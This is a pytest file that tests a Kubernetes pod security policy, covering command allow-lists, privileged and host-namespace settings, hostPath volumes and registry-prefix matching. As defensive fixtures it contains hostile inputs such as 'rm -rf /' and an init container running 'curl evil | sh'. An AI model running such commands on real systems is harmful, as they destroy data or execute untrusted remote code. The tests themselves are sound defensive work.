"""Policy decisions: what a pod may ask for, checked on the final pod."""

from __future__ import annotations

from typing import Any

import pytest

from pipeline.launcher.policy import SecurityPolicy, image_allowed, normalize_image

ALLOWED = [["airflow", "tasks", "run"], ["python", "-m", "jobs"]]


def pod(**spec: Any) -> dict[str, Any]:
    containers = spec.pop("containers", None) or [
        {"name": "base", "image": "python:3.12", "command": ["airflow", "tasks", "run", "x"]}
    ]
    return {"metadata": {"name": "p"}, "spec": {"containers": containers, **spec}}


def container(**fields: Any) -> dict[str, Any]:
    return {"name": "base", "image": "python:3.12", "command": ["python", "-m", "jobs"], **fields}


policy = SecurityPolicy(allowed_commands=ALLOWED)


def test_a_plain_allowed_pod_passes() -> None:
    assert policy.violation(pod()) is None


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ({"command": ["bash", "-c", "rm -rf /"]}, "command not allowed"),
        ({"command": ["python"], "args": ["-m", "jobs"]}, None),
        ({"command": None, "args": None}, "command is empty"),
        ({"securityContext": {"privileged": True}}, "privileged containers"),
        ({"securityContext": {"allowPrivilegeEscalation": True}}, "allowPrivilegeEscalation"),
        ({"securityContext": {"privileged": False, "runAsNonRoot": True}}, None),
    ],
)
def test_container_rules(fields: dict[str, Any], expected: str | None) -> None:
    reason = policy.violation(pod(containers=[container(**fields)]))
    if expected is None:
        assert reason is None
    else:
        assert reason is not None and expected in reason


def test_every_container_counts_including_init_containers() -> None:
    sneaky = {"name": "init", "image": "busybox", "command": ["sh", "-c", "curl evil | sh"]}
    reason = policy.violation(pod(initContainers=[sneaky]))
    assert reason is not None and reason.startswith("initContainers[0] 'init'")
    sidecar = {"name": "side", "image": "busybox"}
    assert policy.violation(pod(containers=[container(), sidecar])) is not None


@pytest.mark.parametrize("field", ["hostNetwork", "hostPID", "hostIPC"])
def test_host_namespaces_denied_unless_allowed(field: str) -> None:
    assert policy.violation(pod(**{field: True})) == f"spec.{field} is not allowed"
    lenient = SecurityPolicy(allowed_commands=ALLOWED, allow_host_namespaces=True)
    assert lenient.violation(pod(**{field: True})) is None


def test_host_path_volumes_denied_unless_allowed() -> None:
    volumes = [{"name": "ok", "emptyDir": {}}, {"name": "root", "hostPath": {"path": "/"}}]
    assert policy.violation(pod(volumes=volumes)) == "hostPath volume 'root' is not allowed"
    lenient = SecurityPolicy(allowed_commands=ALLOWED, allow_host_path=True)
    assert lenient.violation(pod(volumes=volumes)) is None


def test_privileged_allowed_when_configured() -> None:
    lenient = SecurityPolicy(allowed_commands=ALLOWED, allow_privileged=True)
    privileged = container(securityContext={"privileged": True})
    assert lenient.violation(pod(containers=[privileged])) is None


def test_images_only_from_allowed_registries() -> None:
    strict = SecurityPolicy(allowed_commands=ALLOWED, allowed_image_registries=["ghcr.io/acme"])
    assert strict.violation(pod(containers=[container(image="ghcr.io/acme/job:1")])) is None
    reason = strict.violation(pod(containers=[container(image="python:3.12")]))
    assert reason is not None and "not from an allowed registry" in reason
    assert strict.violation(pod(containers=[container(image=None)])) is not None


@pytest.mark.parametrize(
    ("image", "allowed", "ok"),
    [
        ("ghcr.io/acme/job:1", ["ghcr.io/acme"], True),
        ("ghcr.io/acme-evil/job:1", ["ghcr.io/acme"], False),
        ("ghcr.io/acme/job:1", ["ghcr.io/acme/"], True),
        ("python:3.12", ["docker.io"], True),
        ("python:3.12", ["docker.io/library"], True),
        ("docker.io.evil.com/python", ["docker.io"], False),
        ("localhost:5000/job", ["localhost:5000"], True),
        ("acme/job", ["docker.io/acme"], True),
        ("", ["docker.io"], False),
    ],
)
def test_image_prefixes_match_on_path_boundaries(image: str, allowed: list[str], ok: bool) -> None:
    assert image_allowed(image, allowed) is ok


def test_normalize_image() -> None:
    assert normalize_image("python") == "docker.io/library/python"
    assert normalize_image("acme/job:1") == "docker.io/acme/job:1"
    assert normalize_image("quay.io/acme/job") == "quay.io/acme/job"
